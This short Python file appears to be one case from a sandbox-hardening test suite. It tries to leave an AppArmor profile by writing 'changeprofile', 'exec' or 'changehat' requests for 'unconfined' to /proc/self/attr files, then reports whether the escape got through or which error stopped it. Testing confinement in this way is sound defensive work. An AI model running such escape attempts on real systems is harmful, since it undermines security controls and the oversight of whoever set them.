"""Leaves its AppArmor profile by asking for another, at once or at the next exec.

layers: kernel
needs: apparmor
"""
from attack import *

for name in ("current", "exec", "apparmor/current", "apparmor/exec"):
    for word in ("changeprofile", "exec", "changehat 0^"):
        try:
            with open(f"/proc/self/attr/{name}", "w") as file:
                file.write(f"{word} unconfined")
            with open("/proc/self/attr/current") as file:
                if file.read().startswith("unconfined"):
                    through(f"{word} by {name}")
        except OSError as error:
            why = errno.errorcode[error.errno]
stopped(why)
